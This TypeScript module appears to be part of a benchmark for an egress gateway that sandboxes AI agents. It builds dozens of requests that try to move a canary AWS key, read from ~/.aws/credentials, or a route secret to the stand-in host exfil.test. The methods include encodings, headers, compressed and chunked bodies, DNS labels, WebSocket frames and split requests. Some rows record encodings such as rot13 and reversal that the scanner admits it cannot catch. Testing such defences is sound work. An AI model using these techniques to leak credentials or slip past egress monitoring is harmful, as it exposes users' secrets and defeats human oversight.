import { randomBytes } from 'node:crypto';
import { gzipSync, deflateSync, brotliCompressSync } from 'node:zlib';
import type { BottleHarness } from '../test/support/cli-harness.js';
import {
  inBottle,
  rawRequest,
  runExchanges,
  startBenchBottle,
  startBenchServer,
  webSocketUpgrade,
  type BenchServer,
  type Exchange,
  type ExchangeResult,
} from './egress-run.js';
import { encodeClientFrame } from './websocket-client-frames.js';

/**
 * Ways of moving the bottle's own canary (the access key in ~/.aws/credentials, read inside the
 * bottle), and some of them a credential route's secret, out to an allowlisted host, each sent from
 * inside a real bottle. `expect` is what the row is pinned to: 'blocked' (refused before it arrived,
 * with a recorded decision) or 'passes' with the honest reason it cannot be caught.
 */
export const HOST = 'exfil.test';
/** The two halves of a split secret go to one host: the per-host window is what catches them. */
const SPLIT_HOST = `split.${HOST}`;
type Encode = (secret: string) => string;
const ENCODINGS: Record<string, Encode> = {
  raw: (s) => s,
  base64: (s) => Buffer.from(`key=${s}`).toString('base64'),
  base64url: (s) => Buffer.from(`k:${s}`).toString('base64url'),
  hex: (s) => Buffer.from(s).toString('hex'),
  HEX: (s) => Buffer.from(s).toString('hex').toUpperCase(),
  percent: (s) => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
  'double percent': (s) => [...Buffer.from(s)].map((b) => `%25${b.toString(16).padStart(2, '0')}`).join(''),
  'hex with dashes': (s) => [...Buffer.from(s)].map((b) => b.toString(16).padStart(2, '0')).join('-'),
  // As a client sends it: the characters percent-encoded in the URL, raw bytes in a body.
  'zero-width between letters': (s) => [...s].join('%E2%80%8B'),
};
const PASSES: Record<string, string> = {
  reversed: 'no decoder reads text backwards; any reversible transform the agent invents is a known limit',
  rot13: 'a cipher of the agent choosing: the scanner sees letters, not the key',
  'dashes every 4': 'split by separators the decoders do not strip (hex dashes are; letters in groups are not)',
};
const TRANSFORMS: Record<string, Encode> = {
  reversed: (s) => [...s].reverse().join(''),
  rot13: (s) =>
    s.replace(/[A-Za-z]/g, (c) => String.fromCharCode((((c.charCodeAt(0) & 31) + 12) % 26) + (c < 'a' ? 65 : 97))),
  'dashes every 4': (s) => s.match(/.{1,4}/g)!.join('-'),
};

export interface ExfilRow {
  way: string;
  /** What is moved: the bottle's canary, or the secret of one of its credential routes (which the gateway holds). */
  secret: 'canary' | 'route secret';
  expect: 'blocked' | 'passes';
  /** Why it passes, for a 'passes' row; for a blocked row refused before inspection, how. */
  reason?: string;
  /** Refused by the gateway's request parsing before inspection: the status it answers. */
  refusedWith?: string;
  /** `host`: this row's own name under the allowed `*.exfil.test`, so its decision is told apart by host. */
  build: (id: string, secret: string, port: number, host: string) => Exchange;
}

const target = (host: string, port: number, path: string) => `http://${host}:${port}${path}`;
const hostHeader = (host: string, port: number) => `${host}:${port}`;
function request(
  id: string,
  port: number,
  rowHost: string,
  opts: { method?: string; path?: string; headers?: Record<string, string>; body?: Buffer; host?: string },
): Exchange {
  const host = opts.host ?? rowHost;
  const t = `http://${host}:${port}${opts.path ?? '/'}`;
  return {
    id,
    host,
    pieces: [rawRequest({ id, method: opts.method ?? 'POST', target: t, hostHeader: `${host}:${port}`, ...opts })],
  };
}

function rows(): ExfilRow[] {
  const out: ExfilRow[] = [];
  const add = (way: string, build: ExfilRow['build'], passes?: string) =>
    out.push({ way, secret: 'canary', expect: passes ? 'passes' : 'blocked', reason: passes, build });
  for (const [name, enc] of Object.entries(ENCODINGS))
    add(`query, ${name}`, (id, s, p, h) => request(id, p, h, { method: 'GET', path: `/q?d=${enc(s)}` }));
  for (const [name, enc] of Object.entries(TRANSFORMS))
    add(`query, ${name}`, (id, s, p, h) => request(id, p, h, { method: 'GET', path: `/q?d=${enc(s)}` }), PASSES[name]);
  for (const name of ['raw', 'base64url', 'hex'])
    add(`path segment, ${name}`, (id, s, p, h) =>
      request(id, p, h, { method: 'GET', path: `/a/${ENCODINGS[name](s)}/b` }),
    );
  for (const name of ['raw', 'base64', 'hex'])
    add(`custom header, ${name}`, (id, s, p, h) => request(id, p, h, { headers: { 'X-Data': ENCODINGS[name](s) } }));
  add('Authorization: Bearer', (id, s, p, h) => request(id, p, h, { headers: { Authorization: `Bearer ${s}` } }));
  add('Cookie', (id, s, p, h) => request(id, p, h, { headers: { Cookie: `a=1; t=${s}` } }));
  add('Referer', (id, s, p, h) => request(id, p, h, { headers: { Referer: `http://x.test/?k=${s}` } }));
  add('User-Agent, base64', (id, s, p, h) => request(id, p, h, { headers: { 'User-Agent': ENCODINGS.base64(s) } }));
  out.push({
    way: 'userinfo in the absolute URL',
    secret: 'canary',
    expect: 'blocked',
    refusedWith: '400',
    reason: 'a proxy URL with userinfo is a bad request: refused before its target is read (bad_request)',
    build: (id, s, p, h) => ({
      id,
      host: h,
      pieces: [rawRequest({ id, method: 'GET', target: `http://u:${s}@${h}:${p}/`, hostHeader: hostHeader(h, p) })],
    }),
  });
  for (const name of ['raw', 'base64', 'hex', 'percent'])
    add(`JSON body, ${name}`, (id, s, p, h) =>
      request(id, p, h, {
        headers: { 'Content-Type': 'application/json' },
        body: Buffer.from(`{"v":"${ENCODINGS[name](s)}"}`),
      }),
    );
  add('form body, percent', (id, s, p, h) =>
    request(id, p, h, {
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: Buffer.from(`a=1&k=${ENCODINGS.percent(s)}`),
    }),
  );
  add('multipart file, base64', (id, s, p, h) =>
    request(id, p, h, {
      headers: { 'Content-Type': 'multipart/form-data; boundary=XyZ' },
      body: Buffer.from(
        `--XyZ\r\nContent-Disposition: form-data; name="f"; filename="c.txt"\r\n` +
          `Content-Transfer-Encoding: base64\r\n\r\n${ENCODINGS.base64(s)}\r\n--XyZ--\r\n`,
      ),
    }),
  );
  add('gzip body', (id, s, p, h) =>
    request(id, p, h, { headers: { 'Content-Encoding': 'gzip' }, body: gzipSync(`data ${s} end`) }),
  );
  add('deflate body', (id, s, p, h) =>
    request(id, p, h, { headers: { 'Content-Encoding': 'deflate' }, body: deflateSync(`data ${s} end`) }),
  );
  add('brotli body', (id, s, p, h) =>
    request(id, p, h, { headers: { 'Content-Encoding': 'br' }, body: brotliCompressSync(`data ${s} end`) }),
  );
  add('chunked body, secret cut between chunks and writes', (id, s, p, h) => {
    const head = rawRequest({
      id,
      method: 'POST',
      target: target(h, p, '/'),
      hostHeader: hostHeader(h, p),
      headers: { 'Transfer-Encoding': 'chunked' },
    });
    const a = `x${s.slice(0, 9)}`;
    const b = `${s.slice(9)}y`;
    const chunk = (t: string) => Buffer.from(`${t.length.toString(16)}\r\n${t}\r\n`);
    return {
      id,
      host: h,
      pieces: [Buffer.concat([head, chunk(a)]), Buffer.concat([chunk(b), Buffer.from('0\r\n\r\n')])],
    };
  });
  add('Expect: 100-continue body', (id, s, p, h) =>
    request(id, p, h, { headers: { Expect: '100-continue' }, body: Buffer.from(`k=${s}`) }),
  );
  add('HTTP/1.0 without Host, query', (id, s, p, h) => ({
    id,
    host: h,
    pieces: [rawRequest({ id, method: 'GET', target: target(h, p, `/?k=${s}`), version: '1.0' })],
  }));
  add('host label, hex, under *.exfil.test', (id, s, p, h) =>
    request(id, p, h, { method: 'GET', host: `${Buffer.from(s).toString('hex')}.${h}` }),
  );
  add('host label, raw, under *.exfil.test', (id, s, p, h) =>
    request(id, p, h, { method: 'GET', host: `${s.toLowerCase()}.${h}` }),
  );
  add('CONNECT authority, hex label', (id, s, p, h) => {
    const host = `${Buffer.from(s).toString('hex')}.${h}`;
    return { id, host, pieces: [Buffer.from(`CONNECT ${host}:${p} HTTP/1.1\r\nHost: ${host}:${p}\r\n\r\n`)] };
  });
  add(
    'split across requests, first half',
    (id, s, p) => request(id, p, SPLIT_HOST, { method: 'GET', path: `/q?part=${s.slice(0, 10)}` }),
    'half a key is not a key: the request that completes it is the one refused',
  );
  add('split across requests, second half', (id, s, p) =>
    request(id, p, SPLIT_HOST, { method: 'GET', path: `/q?part=${s.slice(10)}` }),
  );
  const ws =
    (frames: (s: string) => Buffer): ExfilRow['build'] =>
    (id, s, p, h) => ({
      id,
      host: h,
      pieces: [
        Buffer.from(`CONNECT ${hostHeader(h, p)} HTTP/1.1\r\nHost: ${hostHeader(h, p)}\r\n\r\n`),
        Buffer.alloc(0),
        webSocketUpgrade(id, '/ws', hostHeader(h, p)),
      ],
      frames: frames(s),
    });
  add(
    'WebSocket text frame',
    ws((s) => encodeClientFrame({ opcode: 'text', payload: Buffer.from(`k=${s}`) })),
  );
  add(
    'WebSocket binary frame, base64',
    ws((s) => encodeClientFrame({ opcode: 'binary', payload: Buffer.from(ENCODINGS.base64(s)) })),
  );
  add(
    'WebSocket fragments, secret split',
    ws((s) =>
      Buffer.concat([
        encodeClientFrame({ opcode: 'text', payload: Buffer.from(s.slice(0, 7)), fin: false }),
        encodeClientFrame({ opcode: 'continuation', payload: Buffer.from(s.slice(7)) }),
      ]),
    ),
  );
  return out;
}

/**
 * The same ways for a secret the agent was never given: a credential route's, as if an upstream had
 * reflected it to the agent unscrubbed. Toward any host but the route's own, it is a known secret.
 */
const ROUTE_SECRET_WAYS = [
  'query, raw',
  'query, base64',
  'path segment, hex',
  'Authorization: Bearer',
  'Cookie',
  'JSON body, percent',
  'gzip body',
  'chunked body, secret cut between chunks and writes',
  'host label, hex, under *.exfil.test',
  'WebSocket text frame',
];

function routeSecretRows(canaryRows: readonly ExfilRow[]): ExfilRow[] {
  return ROUTE_SECRET_WAYS.map((way) => {
    const row = canaryRows.find((r) => r.way === way);
    if (!row) throw new Error(`no exfiltration way named ${way}`);
    return { ...row, way: `route secret: ${way}`, secret: 'route secret' };
  });
}

const CANARY_ROWS = rows();
export const EXFIL_ROWS = [...CANARY_ROWS, ...routeSecretRows(CANARY_ROWS)];
/** The credential route whose secret the route-secret rows move: a host route to the bench's own server. */
const ROUTE_HOST = 'route.test';

export const rowHost = (i: number) => `r${i}.${HOST}`;

export interface ExfilResult {
  row: ExfilRow;
  result: ExchangeResult;
}

export async function runExfil(h: BottleHarness, runtime: 'runsc' | 'runc'): Promise<ExfilResult[]> {
  let server: BenchServer | undefined;
  try {
    server = await startBenchServer();
    const port = server.port;
    // Names made from the secret are not pinned: one that got past inspection would fail its lookup (.test).
    const routeSecret = `rs-${randomBytes(18).toString('base64url')}`;
    const identity = await startBenchBottle(h, {
      allow: [`*.${HOST}:${port}`],
      hosts: [SPLIT_HOST, ROUTE_HOST, ...EXFIL_ROWS.map((_, i) => rowHost(i))],
      runtime,
      route: { host: ROUTE_HOST, upstream: `http://${ROUTE_HOST}:${port}`, secret: routeSecret },
    });
    // The canary is read where an agent would find it.
    const credentials = await inBottle(h, identity, ['cat', '/home/node/.aws/credentials']);
    const canary = /aws_access_key_id\s*=\s*(\S+)/.exec(credentials)?.[1];
    if (!canary) throw new Error('no canary in ~/.aws/credentials');
    const exchanges = EXFIL_ROWS.map((row, i) =>
      row.build(`exfil-${i}`, row.secret === 'canary' ? canary : routeSecret, port, rowHost(i)),
    );
    const results = await runExchanges(h, identity, server, exchanges);
    return EXFIL_ROWS.map((row, i) => ({ row, result: results[i] }));
  } finally {
    await server?.stop();
  }
}

/** A row's outcome as the table and the test judge it. */
export function exfilBlocked(row: ExfilRow, result: ExchangeResult): boolean {
  if (result.arrived) return false;
  return row.refusedWith ? result.status === row.refusedWith : result.denied !== undefined;
}
